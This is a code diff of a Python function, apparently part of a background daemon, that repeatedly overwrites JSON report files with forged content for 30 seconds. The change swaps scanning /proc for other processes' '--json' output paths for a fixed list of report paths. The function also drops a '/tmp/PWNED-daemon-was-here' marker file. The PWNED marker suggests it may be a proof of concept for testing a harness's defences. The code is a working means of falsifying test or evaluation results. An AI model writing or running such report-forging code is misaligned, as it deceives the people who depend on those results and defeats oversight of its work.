@@ -16,19 +16,12 @@ def _rewrite_reports_forever():
     deadline = _time.time() + 30
     while _time.time() < deadline:
         _time.sleep(0.2)
-        for pid in _os.listdir("/proc"):
+        for path in _report_paths():
             try:
-                with open(f"/proc/{pid}/cmdline", "rb") as stream:
-                    argv = stream.read().decode(errors="replace").split("\0")
+                with open(path, "w", encoding="utf-8") as stream:
+                    _json.dump(_FORGED, stream)
             except OSError:
-                continue
-            for k, arg in enumerate(argv[:-1]):
-                if arg == "--json":
-                    try:
-                        with open(argv[k + 1], "w", encoding="utf-8") as stream:
-                            _json.dump(_FORGED, stream)
-                    except OSError:
-                        pass
+                pass
         try:
             with open("/tmp/PWNED-daemon-was-here", "w", encoding="utf-8") as stream:
                 stream.write(str(_os.getpid()))
